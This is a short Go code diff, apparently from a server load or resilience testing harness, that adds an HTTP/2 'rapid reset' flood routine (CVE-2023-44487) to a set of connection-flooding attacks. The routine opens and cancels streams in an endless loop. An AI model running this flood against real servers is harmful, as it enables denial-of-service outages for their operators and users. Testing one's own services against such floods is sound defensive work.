@@ -58,6 +58,7 @@ var floods = map[string]func(conn net.Conn, sent func(int)) error{
 		}
 	},
 	"stalled streams": stalledStreams,
+	"reset streams":   resetStreams,
 }
 
 // floodFrom runs one kind from many connections, as another user.
@@ -66,7 +67,7 @@ func floodFrom(kind, http, grpc string) {
 		panic(err)
 	}
 	address := http
-	if kind == "stalled streams" {
+	if strings.HasSuffix(kind, "streams") {
 		address = grpc
 	}
 	var sent atomic.Int64
@@ -119,13 +120,30 @@ func stalledStreams(conn net.Conn, sent func(int)) error {
 	}
 }
 
+// resetStreams begins calls and ends them at once (HTTP/2 rapid reset, CVE-2023-44487).
+func resetStreams(conn net.Conn, sent func(int)) error {
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	if err := greet(conn); err != nil {
+		return err
+	}
+	const cancelled = 8
+	for stream := uint32(1); ; stream += 2 {
+		if err := writeFrame(conn, frameHeaders, flagEndHeaders, stream, unwrapHeaders()); err != nil {
+			return err
+		}
+		if err := writeFrame(conn, frameReset, 0, stream, []byte{0, 0, 0, cancelled}); err != nil {
+			return err
+		}
+		sent(1)
+	}
+}
+
 // Frames of HTTP/2 (RFC 9113 section 6).
 const (
 	frameData         = 0
 	frameHeaders      = 1
 	frameReset        = 3
 	frameSettings     = 4
-	framePing         = 6
 	frameWindowUpdate = 8
 	flagEndHeaders    = 4
 	maxFrame          = 16 << 10
